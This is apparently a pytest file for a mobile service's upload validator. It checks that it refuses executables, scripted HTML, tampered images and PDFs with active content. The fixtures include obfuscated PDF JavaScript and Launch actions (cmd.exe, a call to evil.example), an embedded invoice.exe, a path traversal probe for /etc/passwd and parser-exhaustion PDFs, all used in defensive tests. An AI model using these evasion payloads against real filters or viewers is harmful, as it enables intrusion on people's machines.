"""Files are judged by their bytes: structure checked, never the name or the client's content type."""

from __future__ import annotations

import pytest

from lsso_mobile.errors import DomainError
from lsso_mobile.services.files import JPEG, PDF, PNG, LocalAttachmentStore, prepare_upload, sniff_content_type
from tests.messaging_support import jpeg_bytes, pdf_bytes, pdf_document, pdf_with_object_stream, png_bytes

MAX_PIXELS = 25_000_000


def said(error: DomainError) -> str:
    """What an error tells the caller: its message with the parameters filled in, and the parameters' own
    words (the detected file type, say), as the API shows them."""
    return " ".join([error.text, *(str(value) for value in error.params.values())])


def check_upload(data: bytes, max_bytes: int) -> str:
    return prepare_upload(data, max_bytes, MAX_PIXELS).content_type


def test_real_files_are_recognised():
    assert sniff_content_type(png_bytes()) == PNG
    assert sniff_content_type(jpeg_bytes()) == JPEG
    assert sniff_content_type(pdf_bytes()) == PDF


@pytest.mark.parametrize(
    ("data", "reason", "status"),
    [
        (b"MZ\x90\x00" + b"\x00" * 100, "Windows program", 415),
        (b"\x7fELF\x02\x01\x01" + b"\x00" * 100, "Linux program", 415),
        (b"<html><script>alert(1)</script>", "HTML", 415),
        (b"GIF89a....", "GIF", 415),
        (png_bytes()[:-8], "PNG", 415),  # truncated
        (png_bytes()[:30] + b"X" + png_bytes()[31:], "PNG", 415),  # a flipped byte breaks a checksum
        (png_bytes() + b"MZ-payload", "after the end", 415),
        (b"\xff\xd8\xff\xe0garbage", "JPEG", 415),
        (b"%PDF-1.4\n no end marker", "PDF", 415),
        (pdf_bytes(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> "), "scripts", 415),
        (b"", "empty", 422),
    ],
)
def test_bad_files_are_refused_with_a_reason(data, reason, status):
    with pytest.raises(DomainError) as caught:
        check_upload(data, 1_000_000)
    assert caught.value.status == status and reason in said(caught.value)


def test_size_limit():
    with pytest.raises(DomainError) as caught:
        check_upload(png_bytes(), 10)
    assert caught.value.status == 413


def test_store_is_content_addressed_and_refuses_other_keys(tmp_path):
    store = LocalAttachmentStore(tmp_path)
    key = store.put(png_bytes())
    assert store.put(png_bytes()) == key and store.get(key) == png_bytes()
    assert len(list(tmp_path.rglob("*"))) == 3  # two directory levels and one file
    with pytest.raises(ValueError):
        store.get("../../etc/passwd")


def test_phone_trailers_after_a_jpeg_are_accepted():
    """Some Android cameras append their own data after the end-of-image marker."""
    assert check_upload(jpeg_bytes() + b"SEFH" + b"\x00" * 500 + b"SEFT", 1_000_000) == JPEG


def test_a_file_uploaded_again_after_the_cutoff_is_kept(tmp_path):
    import os
    import time

    store = LocalAttachmentStore(tmp_path)
    key = store.put(png_bytes())
    old = time.time() - 3 * 86400
    os.utime(store._path(key), (old, old))
    cutoff = time.time() - 86400
    store.put(png_bytes())  # the same bytes again: the file is touched
    assert store.delete_if_older(key, cutoff) is False and store.get(key) == png_bytes()
    os.utime(store._path(key), (old, old))
    assert store.delete_if_older(key, cutoff) is True and store.delete_if_older(key, cutoff) is False


# -- PDFs: active content is refused by structure, however it is spelt or wherever it is kept ------------

JS_ACTION = b"<< /S /J#61vaScript /J#53 (app.launchURL('http://evil.example')) >>"  # /JavaScript, /JS


def _with_free_last_object(data: bytes) -> bytes:
    """The same PDF with its last object marked free in the cross-reference table: its bytes stay in the
    file (a lenient viewer rebuilding the table would find them), the table no longer lists it."""
    xref = data.rindex(b"\nxref\n")
    last = data.rindex(b" 00000 n \n", xref)
    return data[: last - 10] + b"0000000000 00000 f \n" + data[last + 10 :]


HOSTILE_PDFS = {
    # each of these passed the byte search on the original main
    "escaped JavaScript open action": (pdf_bytes(b"/OpenAction " + JS_ACTION + b" "), "JavaScript"),
    "escaped launch on a link": (
        pdf_bytes(
            b"",
            b"/Annots [6 0 R] ",
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /L#61unch /F (cmd.exe) >> >>",
        ),
        "launch",
    ),
    "JavaScript name tree in a compressed object stream": (
        pdf_with_object_stream(
            b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 3 0 R >> >>",
            b"<< /Type /Pages /Kids [] /Count 0 >>",
            b"<< /Names [(open) 4 0 R] >>",
            b"<< /S /JavaScript /JS (app.alert(1)) >>",
        ),
        "JavaScript",
    ),
    "launch action in a compressed object stream": (
        pdf_with_object_stream(
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
            b"<< /Type /Pages /Kids [] /Count 0 >>",
            b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>",
        ),
        "launch",
    ),
    "embedded file": (
        pdf_bytes(
            b"/Names << /Embedded#46iles << /Names [(invoice.exe) 6 0 R] >> >> ",
            b"",
            b"<< /Type /Filespec /F (invoice.exe) /#45F << /F 7 0 R >> >>",
            b"<< /Type /Embedded#46ile /Length 2 >>\nstream\nMZ\nendstream",
        ),
        "embedded file",
    ),
    "file attachment annotation": (
        pdf_bytes(b"", b"/Annots [6 0 R] ", b"<< /Type /Annot /Subtype /File#41ttachment /Rect [0 0 9 9] >>"),
        "file attachment",
    ),
    "XFA form": (
        pdf_bytes(
            b"/AcroForm << /Fields [] /#58FA 6 0 R >> ",
            b"",
            b"<< /Length 23 >>\nstream\n<xdp:xdp></xdp:xdp>   \nendstream",
        ),
        "XFA",
    ),
    "additional actions on a page": (
        pdf_bytes(b"", b"/#41A << /O << /S /GoTo /D [3 0 R /Fit] >> >> "),
        "additional actions",
    ),
    "form submission": (pdf_bytes(b"/OpenAction << /S /Submit#46orm /F (https://evil.example) >> "), "submission"),
    "data import": (pdf_bytes(b"/OpenAction << /S /Import#44ata /F (data.fdf) >> "), "import"),
    "jump into an embedded file": (pdf_bytes(b"/OpenAction << /S /GoT#6fE /T << /R /C /N (a) >> >> "), "embedded"),
    "rich media annotation": (
        pdf_bytes(b"", b"/Annots [6 0 R] ", b"<< /Type /Annot /Subtype /Rich#4dedia /Rect [0 0 9 9] >>"),
        "rich media",
    ),
    "action type given by reference": (
        pdf_bytes(b"/OpenAction << /S 6 0 R >> ", b"", b"/J#61vaScript"),
        "JavaScript",
    ),
    "object left out of the cross-reference table": (
        _with_free_last_object(pdf_bytes(b"/OpenAction 6 0 R ", b"", JS_ACTION)),
        "JavaScript",
    ),
}


@pytest.mark.parametrize("name", list(HOSTILE_PDFS))
def test_pdfs_with_active_content_are_refused_however_they_hide_it(name):
    data, what = HOSTILE_PDFS[name]
    with pytest.raises(DomainError) as caught:
        check_upload(data, 1_000_000)
    assert caught.value.status == 415, said(caught.value)
    assert what in said(caught.value) and caught.value.errors == {"file": ["The PDF holds active content."]}


def test_a_clean_pdf_with_links_and_bookmarks_is_accepted():
    plain = pdf_bytes()
    linked = pdf_bytes(
        b"/Outlines 6 0 R /OpenAction [3 0 R /Fit] ",
        b"/Annots [8 0 R] ",
        b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
        b"<< /Title (Receipt) /Parent 6 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.lsso.gov.la) >> >>",
    )
    compressed = pdf_with_object_stream(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>")
    for data in (plain, linked, compressed):
        prepared = prepare_upload(data, 1_000_000, MAX_PIXELS)
        assert prepared.content_type == PDF and prepared.data == data  # PDFs are stored as sent


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.4\n1 0 obj << /Type /Catalog >> garbage without a table\n%%EOF\n",
        pdf_bytes()[:200] + b"\n%%EOF\n",  # cut short
        pdf_bytes(b"", b"", b"").replace(b"/Size 7", b"/Size 7 /Encrypt << /Filter /Standard /V 1 /R 2 >>"),
        pdf_document(
            b"<< /Type /Catalog /Pages 2 0 R /Big [" + b"0 " * 60_000 + b"] >>", b"<< /Type /Pages /Kids [] /Count 0 >>"
        ),
    ],
    ids=["no cross-reference", "truncated", "encrypted", "oversized array"],
)
def test_pdfs_that_cannot_be_read_are_refused(data):
    with pytest.raises(DomainError) as caught:
        check_upload(data, 1_000_000)
    assert caught.value.status == 415 and "PDF" in said(caught.value)


def test_the_work_spent_on_a_pdf_is_bounded():
    import time

    numbers = b"[" + b"0 " * 45_000 + b"]"
    complex_pdf = pdf_document(
        b"<< /Type /Catalog /Pages 2 0 R /Junk [" + b"3 0 R " * 5 + b"] >>",
        b"<< /Type /Pages /Kids [] /Count 0 >>",
        *[numbers] * 5,
    )
    started = time.monotonic()
    with pytest.raises(DomainError) as caught:
        check_upload(complex_pdf, 5_000_000)
    assert caught.value.status == 413 and "too complex" in said(caught.value)
    assert time.monotonic() - started < 5

    # thousands of objects the cross-reference table does not list, each opening an array that runs on
    hidden = b"".join(b"%d 0 obj [ " % (100 + i) + b"1 " * 50 for i in range(20_000))
    started = time.monotonic()
    with pytest.raises(DomainError) as caught:
        check_upload(_with_free_last_object(pdf_bytes(b"", b"", hidden)), 5_000_000)
    assert caught.value.status == 413 and "too complex" in said(caught.value)
    assert time.monotonic() - started < 3

    many_pages = pdf_document(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + b"3 0 R " * 501 + b"] /Count 501 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
    )
    with pytest.raises(DomainError) as caught:
        check_upload(many_pages, 5_000_000)
    assert caught.value.status == 413 and "500 pages" in said(caught.value)
